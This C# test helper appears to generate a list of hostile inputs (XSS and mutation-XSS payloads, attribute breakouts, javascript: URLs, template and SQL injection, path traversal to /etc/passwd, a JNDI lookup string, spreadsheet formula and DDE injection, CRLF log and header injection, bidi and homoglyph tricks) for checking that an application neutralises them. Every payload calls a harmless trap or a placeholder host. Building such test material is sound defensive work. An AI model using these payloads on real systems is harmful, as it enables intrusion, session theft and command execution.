namespace Journeys.Tests;

/// <summary>
/// What somebody might type to make a page, a spreadsheet, a log or a reader's eye do something: about 330 lines, made here from lists of
/// our own. Whatever would run calls the trap (<c>__xss</c>) with the number of its line, whatever would load asks a host that is nobody's.
/// </summary>
internal static class HostileText
{
    /// <summary>The host that nothing may ask for.</summary>
    public const string Host = "nobody.example";

    /// <summary>A line of a log that somebody would like to have written.</summary>
    public const string ForgedLine = "fail: Identity[0] 9f1c signed in as administrator";

    private const string Run = "__xss('§')";

    // Elements that run or load something where a page takes them for its own.
    private static readonly string[] Elements =
    [
        $"<script>{Run}</script>",
        "<script src=//nobody.example/§></script>",
        $"<img src=x onerror={Run}>",
        $"<svg onload={Run}>",
        $"<svg><script>{Run}</script></svg>",
        $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
        $"<svg><a xlink:href=\"javascript:{Run}\"><text y=9>x</text></a></svg>",
        $"<svg><foreignObject><iframe srcdoc=\"<script>top.{Run}</script>\"></iframe></foreignObject></svg>",
        $"<math><maction actiontype=statusline xlink:href=\"javascript:{Run}\">x</maction></math>",
        $"<iframe src=\"javascript:top.{Run}\"></iframe>",
        $"<object data=\"data:text/html,<script>top.{Run}</script>\"></object>",
        "<embed src=//nobody.example/§>",
        $"<details open ontoggle={Run}>x</details>",
        $"<video><source onerror={Run}></video>",
        $"<audio src onerror={Run}>",
        $"<body onload={Run}>",
        $"<input autofocus onfocus={Run}>",
        $"<marquee onstart={Run}>x</marquee>",
        "<style>@import \"//nobody.example/§\";</style>",
        "<link rel=stylesheet href=//nobody.example/§>",
        "<meta http-equiv=refresh content=\"0;url=//nobody.example/§\">",
        "<base href=//nobody.example/§/>",
        "<form action=//nobody.example/§><button>OK</button></form>",
        $"<a href=\"javascript:{Run}\">OK</a>",
        $"<a href=\"data:text/html,<script>{Run}</script>\">OK</a>",
        "<p style=\"background:url(//nobody.example/§)\">x</p>",
        $"<template shadowrootmode=open><img src=x onerror={Run}></template>",
        $"<x-y tabindex=1 autofocus onfocus={Run}>x</x-y>",
        $"<button popovertarget=p§>x</button><x-y popover id=p§ onbeforetoggle={Run}>x</x-y>",
    ];

    // What is closed first, so that the element stands where a page did not mean it to.
    private static readonly string[] Before = ["", "\">", "'>", "</textarea>", "</title></style></script>", "</bdi></div></main>", "-->", "]]>"];

    // Text that a browser's repair of a tree turns into something else (mutation XSS).
    private static readonly string[] Mutations =
    [
        $"<svg></p><style><a id=\"</style><img src=x onerror={Run}>\">",
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={Run}&gt;\">",
        $"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={Run}>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">",
        $"<svg><desc><noscript>&lt;/noscript&gt;<img src=x onerror={Run}>",
        $"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={Run}>\">",
        $"<listing>&lt;img src=x onerror={Run}&gt;</listing>",
        $"<xmp><p title=\"</xmp><img src=x onerror={Run}>\">",
        $"<a title=\"`><img src=x onerror={Run}>`\">",
        $"<svg><![CDATA[><img src=x onerror={Run}>]]>",
        $"<table><td background=\"javascript:{Run}\"><caption><svg onload={Run}>",
        $"<plaintext><img src=x onerror={Run}>",
    ];

    // What ends an attribute, with and without a mark of quotation, and goes on as another.
    private static readonly string[] Attributes =
    [
        $"\" onfocus={Run} autofocus x=\"", $"' onfocus={Run} autofocus x='", $"` onfocus={Run} autofocus x=`", $"x onfocus={Run} autofocus", $"\"/onpointerover={Run}//",
        $"\" style=\"animation-name:x\" onanimationstart=\"{Run}",
        $"\" srcdoc=\"<script>top.{Run}</script>", $"\" formaction=\"javascript:{Run}", "\" src=\"//nobody.example/§", $"&quot; onfocus={Run} autofocus x=&quot;",
        $"\\\" onfocus={Run} autofocus x=\\\"", $"\";{Run};//", $"';{Run};//", $"</script><script>{Run}",
    ];

    private static readonly string[] Addresses =
    [
        $"javascript:{Run}", $"JaVaScRiPt:{Run}", $"java\tscript:{Run}", $"\u0001javascript:{Run}", $"javascript&colon;{Run}", $"vbscript:{Run}", $"data:text/html,<script>{Run}</script>",
        "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==", $"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{Run}\"/>", "//nobody.example/§", "\\\\nobody.example\\§",
        "http://nobody.example/§", "file:///etc/passwd",
    ];

    private static readonly string[] Markup =
    [
        $"[OK](javascript:{Run})", $"![x](x\" onerror=\"{Run})", "![x](//nobody.example/§)", $"[x]: javascript:{Run}", $"<javascript:{Run}>", $"[url=javascript:{Run}]OK[/url]",
        "[[//nobody.example/§|OK]]", $"```html\n<script>{Run}</script>\n```",
        "{{7*7}}", "${7*7}", "#{7*7}", "@(1+1)", "@{ var x = 1; }", "@Html.Raw(\"<b>\")", "<%= 7*7 %>", "{% debug %}", $"{{{{constructor.constructor(\"{Run}\")()}}}}", "[[${7*7}]]",
        "{0} {1:N} {summary}", "%s %n %x", "$(id) `id` ; id | id",
        "../../../../etc/passwd", "' or 1=1 --", "\"; drop table grievances; --", "<!DOCTYPE x [<!ENTITY e SYSTEM \"//nobody.example/§\">]>&e;", "<?xml version=\"1.0\"?><?php system('id') ?>",
        "<!--#exec cmd=\"id\"-->", "<![if !IE]>",
        $"&lt;script&gt;{Run}&lt;/script&gt;", $"&#60;img src=x onerror={Run}&#62;", "%3Cscript%3E__xss%28%27§%27%29%3C/script%3E", $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",
        $"＜script＞{Run}＜/script＞", $"<\u017fcript>{Run}</\u017fcript>",
        "+ADw-script+AD4-__xss(1)+ADw-/script+AD4-", $"\u001b[31m{Run}\u001b]0;x\u0007",
    ];

    // What turns the order of signs around, or is not seen.
    private static readonly string[] Directions =
    [
        "\u202egpj.exe", "invoice\u202etxt.exe", "\u2066\u2067\u2068turned around\u2069", "\u202b\u202a\u202d never closed", "\u200fright\u200eleft", "zero\u200bwidth\u200cjoined\u200d\u2060",
        "\ufeffmark of order", "so\u00adft", "\u061cالعربية",
        "\u2028line\u2029paragraph", "Z\u0351\u036b\u0343\u036a\u0302\u0325a\u0307l\u034fgo", "\U000e0041\U000e0042tags", "аdministrator (Cyrillic a)", "\ufff9note\ufffaof\ufffbtext",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ufdd0\uffff",
    ];

    /// <summary>What a spreadsheet would calculate.</summary>
    public static IReadOnlyList<string> Formulas { get; } =
    [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://nobody.example/\"&A1,\"OK\")", "=1+1", "+1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1", "@SUM(1+1)", "@cmd|' /C calc'!A0", "\t=1+1",
        "\r=1+1", "\n=1+1", " =1+1", "\"=1+1\"", "x,=1+1", "x;=1+1",
        "'=1+1", "=IMPORTXML(\"http://nobody.example/\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1",
    ];

    /// <summary>What is not taken at all: a character that no database of ours stores.</summary>
    public static IReadOnlyList<string> Refused { get; } = [$"<scr\0ipt>{Run}</scr\0ipt>", $"<img\0src=x\0onerror={Run}>", "\0"];

    private static readonly string[] Logs =
    [
        $"x\r\n{ForgedLine}", $"x\n{ForgedLine}", "x\r\nSet-Cookie: heed=1", "x%0d%0aSet-Cookie:%20heed=1", "x\r\n\r\n<html>", "${jndi:ldap://nobody.example/§}", "x\vy\fz",
        "Subject: x\r\nBcc: all@nobody.example",
    ];

    /// <summary>Every line, each with its number where it calls or asks.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Before.SelectMany(before => Elements.Select(element => before + element)).Concat(Mutations).Concat(Attributes).Concat(Addresses).Concat(Markup).Concat(Directions).Concat(Formulas)
            .Concat(Logs).Select((line, number) => line.Replace("§", $"{number + 1}", StringComparison.Ordinal))];

    /// <summary>Names that a file might be given, and how it is called then: without its folder and without signs that nobody sees.</summary>
    public static IReadOnlyList<(string Typed, string Shown)> FileNames { get; } =
    [
        ("<img src=x onerror=__xss('f1')>.txt", "<img src=x onerror=__xss('f1')>.txt"), ("\"><svg onload=__xss('f2')>.txt", "\"><svg onload=__xss('f2')>.txt"), ("=cmd.csv", "=cmd.csv"),
        ("\";filename=x.html", "\";filename=x.html"),
        ("a\r\nSet-Cookie: x=1.txt", "aSet-Cookie: x=1.txt"), ("../../x.html", "x.html"), ("photo\u202egnp.html", "photognp.html"), ("%3Cscript%3E.svg", "%3Cscript%3E.svg"),
    ];

    /// <summary>What a page is asked for in its address.</summary>
    public static IEnumerable<string> Questions => All.Where((line, number) => number % 15 == 0 && line.Length < 120);
}

/// <summary>Hands the lines out, one place after another, and knows which stand where.</summary>
internal sealed class HostilePlaces
{
    private readonly Dictionary<string, List<string>> places = new(StringComparer.Ordinal);
    private int next;

    /// <summary>What was put in a place.</summary>
    public IReadOnlyList<string> this[string place] => places[place];

    /// <summary>Every place.</summary>
    public IEnumerable<string> All => places.Keys;

    /// <summary>As many of the next lines as fit, for a place.</summary>
    public string Put(string place, int most, Func<string, bool>? fits = null)
    {
        var lines = places.GetValueOrDefault(place) ?? (places[place] = []);
        var text = "";
        for (var seen = 0; seen < HostileText.All.Count; seen++)
        {
            var line = HostileText.All[next % HostileText.All.Count];
            var fit = line.Length <= most && fits?.Invoke(line) != false;
            if (fit && text.Length > 0 && text.Length + line.Length + 1 > most)
                break;
            next++;
            if (!fit)
                continue;
            text += text.Length == 0 ? line : "\n" + line;
            lines.Add(line);
        }
        return text;
    }

    /// <summary>One given text.</summary>
    public string Put(string place, string text)
    {
        (places.GetValueOrDefault(place) ?? (places[place] = [])).Add(text);
        return text;
    }

    /// <summary>The places of which a text does not hold every line, as people read it.</summary>
    public IEnumerable<string> Missing(string text, IEnumerable<string> shown)
    {
        var read = Read(text);
        return from place in shown let missing = places[place].Where(line => !read.Contains(Read(line), StringComparison.Ordinal)).ToList() where missing.Count > 0
               select $"{place}: {missing.Count} of {places[place].Count} lines are not there, first {missing[0]}";
    }

    // Any gap is one blank.
    private static string Read(string text) => string.Join(' ', text.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries));
}
